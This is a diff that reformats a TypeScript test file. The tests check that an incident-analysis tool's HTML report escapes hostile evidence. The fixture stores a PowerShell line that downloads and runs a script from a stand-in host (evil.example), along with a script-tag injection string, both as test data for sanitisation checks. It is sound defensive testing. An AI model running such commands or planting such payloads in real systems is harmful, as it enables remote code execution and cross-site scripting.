@@ -23,8 +23,28 @@ const finding: Finding = {
   actor: { user: `CORP\\${EVIL}`, sourceIp: '10.0.4.7' },
   explanation: 'powershell -c "iwr https://evil.example/a.ps1 | iex"',
   params: { [`k${EVIL}`]: EVIL },
-  lineage: [{ host: 'WS01', time: '2024-03-05T10:01:00Z', pid: 1, image: `C:\\${EVIL}.exe`, commandLine: `</pre><script>alert(1)</script>`, user: null, stub: true }],
-  evidence: [{ source: 'a'.repeat(64), recordId: 9, eventId: 4720, time: '2024-03-05T10:01:06Z', table: 'win_events', recordNo: 4, role: EVIL }],
+  lineage: [
+    {
+      host: 'WS01',
+      time: '2024-03-05T10:01:00Z',
+      pid: 1,
+      image: `C:\\${EVIL}.exe`,
+      commandLine: `</pre><script>alert(1)</script>`,
+      user: null,
+      stub: true,
+    },
+  ],
+  evidence: [
+    {
+      source: 'a'.repeat(64),
+      recordId: 9,
+      eventId: 4720,
+      time: '2024-03-05T10:01:06Z',
+      table: 'win_events',
+      recordNo: 4,
+      role: EVIL,
+    },
+  ],
   details: { note: EVIL },
   allowlisted: { kind: 'tools', value: EVIL, reason: EVIL },
 };
@@ -37,13 +57,28 @@ test('html() escapes markup and both quote kinds, and defangs URLs', () => {
 });
 
 test('the HTML report carries no markup from evidence, no script and no URL', () => {
-  const out = renderHtmlReport(buildAnalyzeReport([{ path: `/e/${EVIL}.xml`, sha256: 'a'.repeat(64), format: 'windows-xml', events: 1, skipped: 0, errors: [] }], [finding]), {
-    casePath: `/cases/${EVIL}.duckdb`,
-    generatedAt: '2024-03-06T00:00:00Z',
-    timeZone: 'UTC',
-    params: { [EVIL]: [EVIL] },
-    allowlist: { accounts: [{ value: EVIL, reason: EVIL }], tools: [], sourceIps: [], hosts: [] },
-  });
+  const out = renderHtmlReport(
+    buildAnalyzeReport(
+      [
+        {
+          path: `/e/${EVIL}.xml`,
+          sha256: 'a'.repeat(64),
+          format: 'windows-xml',
+          events: 1,
+          skipped: 0,
+          errors: [],
+        },
+      ],
+      [finding],
+    ),
+    {
+      casePath: `/cases/${EVIL}.duckdb`,
+      generatedAt: '2024-03-06T00:00:00Z',
+      timeZone: 'UTC',
+      params: { [EVIL]: [EVIL] },
+      allowlist: { accounts: [{ value: EVIL, reason: EVIL }], tools: [], sourceIps: [], hosts: [] },
+    },
+  );
   assert.doesNotMatch(out, /<script/i);
   assert.doesNotMatch(out, /<img/i);
   assert.doesNotMatch(out, /https?:\/\//i);
@@ -54,7 +89,35 @@ test('the HTML report carries no markup from evidence, no script and no URL', ()
   assert.match(out, /start not in the logs/);
   // Every tag in the file is one the report itself writes.
   const tags = new Set([...out.matchAll(/<([a-z][a-z0-9]*)/gi)].map((m) => m[1]!.toLowerCase()));
-  const allowed = ['html', 'head', 'meta', 'title', 'style', 'body', 'h1', 'h2', 'h3', 'h4', 'p', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'span', 'section', 'ol', 'li', 'a', 'pre', 'details', 'summary', 'footer', 'code'];
+  const allowed = [
+    'html',
+    'head',
+    'meta',
+    'title',
+    'style',
+    'body',
+    'h1',
+    'h2',
+    'h3',
+    'h4',
+    'p',
+    'table',
+    'thead',
+    'tbody',
+    'tr',
+    'th',
+    'td',
+    'span',
+    'section',
+    'ol',
+    'li',
+    'a',
+    'pre',
+    'details',
+    'summary',
+    'footer',
+    'code',
+  ];
   for (const t of tags) assert.ok(allowed.includes(t), `unexpected tag <${t}>`);
 });
 
